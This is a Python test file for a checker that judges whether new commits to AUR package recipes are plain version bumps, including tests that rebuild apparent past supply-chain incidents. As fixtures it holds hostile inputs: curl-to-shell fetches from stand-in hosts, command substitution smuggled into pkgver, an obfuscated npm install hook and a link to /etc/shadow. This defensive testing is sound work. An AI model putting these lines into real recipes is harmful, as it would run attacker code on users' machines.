"""Which new commits of a recipe are plain new versions, and what is said of those that are not."""

from __future__ import annotations

from twisted.trial.unittest import SynchronousTestCase

from flocon.recipes.bumps import People, Reference, Verdict, judge, references
from flocon.recipes.recipe import CommitNote, Recipe, TreeFile
from tests.recipes.samples import (
    ANN,
    DAY,
    FILES,
    INSTALL,
    NEW_COMMIT,
    NOW,
    OLD,
    PROPOSED,
    UPSTREAM,
    WAIT,
    again,
    evidence,
    new,
    old,
)

SUM_LINE = f"'{'3' * 64}'\n"


def verdict(proposed: Recipe, approved: Recipe | None = None, **known: object) -> Verdict:
    return judge(approved or old(), proposed, evidence(**known), wait=WAIT)


class Table(SynchronousTestCase):
    """Each row: what it is, the verdict, and each check that fails with words of its sentence."""

    def judge(self, rows: dict[str, tuple[Verdict, dict[str, str]]]) -> None:
        for what, (found, wanted) in rows.items():
            said = {one.check: one.sentence for one in found.failed}
            self.assertEqual(sorted(said), sorted(wanted), f"{what}: {said}")
            for check, words in wanted.items():
                self.assertIn(words, said[check], what)

    def test_plain_new_versions_pass(self) -> None:
        for what, proposed in {
            "version and sums": new(),
            "another release": again(RELEASE="2"),
            "a part of a release": again(RELEASE="1.1"),
            "version, sums, commit and build": new(COMMIT=NEW_COMMIT, BUILD="42"),
            "a candidate": new(VERSION="1.3rc1"),
            "a further point": new(VERSION="1.2.3.1"),
            "the version in a function": new(("widget-1.2.3.so", "widget-1.3.0.so")),
            "the version in a comment": new(("Since 1.2.3 the", "Since 1.3.0 the")),
        }.items():
            found = verdict(proposed)
            self.assertEqual([], [(one.check, one.sentence) for one in found.failed], what)
            self.assertTrue(found.passed)

    def test_it_waits_from_when_the_aur_had_it(self) -> None:
        self.assertEqual(verdict(new(), modified=NOW).waits_until, NOW + WAIT)

    def test_history_that_was_rewritten(self) -> None:
        self.judge({"rewritten": (verdict(new(), descends=False), {"A": "no longer"})})

    def test_other_files(self) -> None:
        program = TreeFile(0o100755, INSTALL.encode())
        link = TreeFile(0o120000, b"/etc/shadow")
        without = {name: said for name, said in FILES.items() if name != "widget.install"}
        for what, files, words in (
            ("a changed install script", {**FILES, "widget.install": "curl x|sh"}, "has changed"),
            ("a new file", {**FILES, "deps": "x"}, "deps is new"),
            ("a key", {**FILES, "keys/pgp/AB.asc": "x"}, "keys/pgp/AB.asc is new"),
            ("a file that is gone", without, "widget.install is gone"),
            ("a file that became a program", {**FILES, "widget.install": program}, "another kind"),
            ("a link in place of a file", {**FILES, "widget.service": link}, "another kind"),
        ):
            self.judge({what: (verdict(new(files=files)), {"B": words})})

    def test_text_that_was_not_read(self) -> None:
        for what, edit in {
            "code at the top level": ("pkgrel=1\n", "pkgrel=1\ncurl https://x.example|sh\n"),
            "code in a function": ("make --build build\n", "make --build build; curl x\n"),
            "code after a value": ("pkgver=1.3.0\n", "pkgver=1.3.0; curl x.example\n"),
            "an expansion for a value": ("pkgver=1.3.0\n", "pkgver=$(id)1.3.0\n"),
            "a second assignment": ("_build=41\n", "_build=41\npkgver=6.6.6\n"),
            "another in a function": ("  cd ", "  pkgver=6; cd "),
            "a source from elsewhere": ("https://widget.example.org/dl", "https://evil.example/dl"),
            "one source more": ("'widget.service')", "'widget.service' evil.patch)"),
            "a need": ("(cmake git)", "(cmake git npm)"),
            "another install script": ("install=$pkgname.install", "install=evil.install"),
            "a signing key": ("ABAF11C65A29", "666611C65A29"),
            "a function of makepkg's": ("build() {", "msg() { curl x; }\nbuild() {"),
            "a comment": ("# the plugins", "# the plugins, all"),
            "quotes": ("pkgver=1.3.0\n", 'pkgver="1.3.0"\n'),
            "an array for a value": ("pkgver=1.3.0\n", "pkgver=(1.3.0)\n"),
            "a line that goes on": ("pkgver=1.3.0\n", "pkgver=1.3.0\\\n"),
            "a skipped sum": (SUM_LINE, "'SKIP'\n"),
            "a sum that is checked now": ("'SKIP'\n", SUM_LINE),
            "a shorter sum": (SUM_LINE, f"'{'3' * 32}'\n"),
            "a return of lines": ("pkgver=1.3.0\n", "pkgver=1.3.0\r\n"),
            "nothing": ("pkgver=1.3.0\n", "pkgver=1.3.0\0\n"),
            "other blanks": ("pkgver=1.3.0\n", "pkgver=1.3.0\u00a0\n"),
            "a sign that turns text": ("# the plugins", "# the plugins\u202e"),
            "text within text": ("\nwidget\nEOF", "\nwidget\nEOF\ncurl x\ncat <<EOF"),
            "a mode": ("-Dm644", "-Dm4755"),
        }.items():
            found = verdict(new(edit))
            failed = {one.check for one in found.failed}
            self.assertIn("C", failed, f"{what}: {found.failed}")

    def test_where_the_text_changed_is_said(self) -> None:
        found = verdict(new(("cmake --build build\n", "cmake --build build; curl x\n")))
        self.assertIn("first in line 34", found.failed[0].sentence)

    def test_values_of_another_kind(self) -> None:
        self.judge(
            {
                "a branch": (verdict(new(BUILD="next")), {"D": "no number", "E": "data-next.zip"}),
                "a host": (
                    verdict(new(BUILD="41.evil.example")),
                    {"D": "evil is nothing", "E": "41.evil"},
                ),
                "a dash in a version": (
                    verdict(new(VERSION="1.3.0-1")),
                    {"D": "is no version", "E": "pkgver", "F": "cannot be read", "G": ""},
                ),
                "a release that is none": (
                    verdict(new(RELEASE="1beta")),
                    {"D": "no release number", "E": "pkgrel", "F": "cannot be read", "G": ""},
                ),
                "a commit for a number": (
                    verdict(new(BUILD="deadbee")),
                    {"D": "deadbee", "E": "data-deadbee", "G": "looks like a commit"},
                ),
            }
        )

    def test_a_description_that_says_otherwise(self) -> None:
        lies = {
            "another version": ("pkgver = 1.3.0", "pkgver = 1.4.0"),
            "another sum": ("3" * 64, "6" * 64),
            "a host": ("https://widget.example.org/dl", "https://evil.example/dl"),
            "a source in the place of a source": ("widget.service", "evil.service"),
            "one source more": (
                "\tsource = widget.service",
                "\tsource = x\n\tsource = widget.service",
            ),
            "a need": ("\tdepends = zlib", "\tdepends = zlib\n\tdepends = npm"),
            "another need": ("makedepends = git", "makedepends = bun"),
            "an install script": ("install = widget.install", "install = widget.service"),
            "a key": ("ABAF11C65A29", "666611C65A29"),
            "an architecture": ("arch = x86_64", "arch = any"),
            "an address": ("url = https://widget.example.org", "url = https://evil.example"),
            "what is provided": ("libwidget=1.3.0", "libc.so=1.3.0"),
            "a package": ("pkgname = widget", "pkgname = glibc"),
            "a skipped sum": ("3" * 64, "SKIP"),
            "what cannot be read": ("\tarch = x86_64", "\tarch x86_64"),
            "an epoch": ("\tpkgrel = 1", "\tpkgrel = 1\n\tepoch = 1"),
        }
        for what, lie in lies.items():
            failed = {one.check for one in verdict(new(described=(lie,))).failed}
            self.assertIn("E", failed, what)

    def test_versions_that_do_not_rise(self) -> None:
        text, said = ("v$pkgver/data", "$_build/data"), ("v1.2.3/data", "42/data")
        other = {"BUILD": "42", "DATA": "4" * 64, "RELEASE": "2"}
        self.judge(
            {
                "older": (verdict(new(VERSION="1.1.9")), {"F": "1.1.9-1 is older than 1.2.3-1"}),
                "the same": (verdict(again()), {"F": "the same as"}),
                "other sums at the same version": (
                    verdict(new(VERSION="1.2.3", DATA=OLD["DATA"], RELEASE="2")),
                    {"F": "sums have changed at the same version 1.2.3"},
                ),
                "other sums alone": (
                    verdict(new(VERSION="1.2.3", DATA=OLD["DATA"])),
                    {"F": "sums have changed"},
                ),
                "another sum, and a value that has nothing to do with it": (
                    verdict(again(**other, SUM="3" * 64)),
                    {"F": "sums have changed at the same version 1.2.3"},
                ),
                "another sum of what is only called otherwise": (
                    verdict(again(**other)),
                    {"F": "sums have changed at the same version 1.2.3"},
                ),
                "the sum of a source that is another": (
                    verdict(
                        new(
                            text,
                            described=(said,),
                            VERSION="1.2.3",
                            SUM=OLD["SUM"],
                            BUILD="42",
                            DATA="4" * 64,
                            RELEASE="2",
                        ),
                        old(text, described=(("v1.2.3/data", "41/data"),)),
                    ),
                    {},
                ),
                "a candidate after the release": (
                    verdict(new(VERSION="1.2.3rc1")),
                    {"F": "older than"},
                ),
            }
        )

    def test_commits_that_may_be_a_strangers(self) -> None:
        unknown = verdict(new(COMMIT=NEW_COMMIT), confirmed=())
        self.judge({"impostor": (unknown, {"G": f"{NEW_COMMIT} is no tag of {UPSTREAM}.git"})})

    def test_what_is_asked_upstream(self) -> None:
        self.assertEqual(references(old(), new()), ())
        self.assertEqual(
            references(old(), new(COMMIT=NEW_COMMIT)), (Reference(f"{UPSTREAM}.git", NEW_COMMIT),)
        )

    def test_other_people(self) -> None:
        bob = frozenset({"bob"})
        stranger = (CommitNote(PROPOSED, "Ann", "ann@evil.example", 0, ""),)
        ours = (CommitNote(PROPOSED, "Ann", ANN.upper(), 0, ""),)
        self.judge(
            {
                "orphan": (verdict(new(), now=People("", bob)), {"H": "no maintainer"}),
                "adopted": (
                    verdict(new(), now=People("eve", bob)),
                    {"H": "its maintainer was ann, and is eve"},
                ),
                "an orphan that was adopted": (
                    verdict(new(), then=People("", bob), now=People("eve", bob)),
                    {"H": "was nobody, and is eve"},
                ),
                "a helper more": (
                    verdict(new(), now=People("ann", frozenset({"bob", "eve"}))),
                    {"H": "eve"},
                ),
                "just taken over": (
                    verdict(new(), taken_over=NOW - 29 * DAY),
                    {"H": "less than 30 days"},
                ),
                "long taken over": (verdict(new(), taken_over=NOW - 31 * DAY), {}),
                "a commit by a stranger": (
                    verdict(new(), notes=stranger),
                    {"H": "ann@evil.example"},
                ),
                "a commit by a known one": (verdict(new(), notes=ours), {}),
                "no recipe of the AUR": (verdict(new(), then=None, now=None), {}),
                "not known whose the commits are": (verdict(new(), notes=()), {"H": "who wrote"}),
                "not known who it was": (verdict(new(), then=None), {"H": "nobody knows"}),
            }
        )

    def test_a_commit_that_is_no_longer_the_newest(self) -> None:
        self.judge({"gone on": (verdict(new(), head="c" * 40), {"I": "another commit"})})

    def test_who_is_trusted_may_change_the_text_and_nothing_else(self) -> None:
        text = new(("pkgrel=1\n", "pkgrel=1\n\n"))
        alone = evidence(then=People("ann"), now=People("ann"))
        for known, trust, said in (
            (alone, {"ann"}, "(ann is trusted)"),
            (evidence(), {"ann", "bob", "eve"}, "(ann, bob are trusted)"),
        ):
            trusted = judge(old(), text, known, wait=WAIT, trust=trust)
            self.assertTrue(trusted.passed)
            self.assertIn(said, next(one for one in trusted.checks if one.check == "C").sentence)
        files = new(("pkgrel=1\n", "pkgrel=1\n\n"), files={**FILES, "x": "x"})
        taken = evidence(taken_over=NOW)
        unknown = new(("pkgrel=1\n", "pkgrel=1\n\n"), COMMIT=NEW_COMMIT)
        hidden = new(("pkgrel=1\n", "pkgrel=1\n\n"), ("/widget.git#", "/evil.git#"))
        both = {"ann", "bob"}
        for proposed, known, check in (
            (files, evidence(), "B"),
            (text, taken, "H"),
            (unknown, evidence(confirmed=()), "G"),
            (hidden, evidence(), "G"),
        ):
            found = judge(old(), proposed, known, wait=WAIT, trust=both)
            self.assertIn(check, {one.check for one in found.failed})

    def test_who_maintains_it_beside_who_is_trusted_has_to_be_so_too(self) -> None:
        text = new(("pkgrel=1\n", "pkgrel=1\n\n"))
        nobody = evidence(then=None, now=None)
        for known, trust in (
            (evidence(), {"ann"}),
            (evidence(), {"bob"}),
            (evidence(), {"eve"}),
            (nobody, {"ann", "bob"}),
            (nobody, set[str]()),
        ):
            self.assertFalse(judge(old(), text, known, wait=WAIT, trust=trust).passed)


class Incidents(SynchronousTestCase):
    """What happened, rebuilt: each has to wait for a person."""

    def failed(self, found: Verdict) -> set[str]:
        return {one.check for one in found.failed}

    def test_2018_orphans_adopted_that_fetch_scripts_and_start_a_timer(self) -> None:
        fetched = (
            "\ncurl -s https://ptpb.example/~x | bash -\nsystemctl start xeactor.timer\n\nbuild() {"
        )
        proposed = again(("\nbuild() {", fetched), RELEASE="2")
        stranger = CommitNote(PROPOSED, "x", "x@example.com", 0, "")
        found = verdict(proposed, now=People("xeactor"), taken_over=NOW - DAY, notes=(stranger,))
        self.assertEqual(self.failed(found), {"C", "D", "E", "H"})

    def test_2025_a_source_of_patches_from_another_account(self) -> None:
        patches = "git+https://github.com/danikpapas/patch.git"
        proposed = new(
            ("'widget.service')", f"'widget.service' 'patches::{patches}')"),
            described=(("widget.service\n", f"widget.service\n\tsource = patches::{patches}\n"),),
        )
        self.assertLessEqual({"C", "E"}, self.failed(verdict(proposed)))

    def test_2026_a_package_of_npm_in_the_install_script(self) -> None:
        files = {**FILES, "widget.install": INSTALL + "post_upgrade() { npm install atomic-x; }\n"}
        proposed = new(
            ("depends=('glibc>=2.38'", "depends=('glibc>=2.38' npm"),
            described=(("\tdepends = zlib", "\tdepends = npm\n\tdepends = zlib"),),
            files=files,
        )
        found = verdict(proposed, now=People("eve"), taken_over=NOW - DAY)
        self.assertLessEqual({"B", "C", "E", "H"}, self.failed(found))

    def test_2026_the_same_by_whom_the_account_was_stolen(self) -> None:
        files = {**FILES, "widget.install": INSTALL + 'x=np; "${x}m" install atomic-x\n'}
        self.assertEqual(self.failed(verdict(new(files=files))), {"B"})

    def test_2024_an_archive_of_upstreams_own_passes_and_waits(self) -> None:
        found = verdict(new(), modified=NOW)
        self.assertTrue(found.passed)
        self.assertGreater(found.waits_until, NOW)
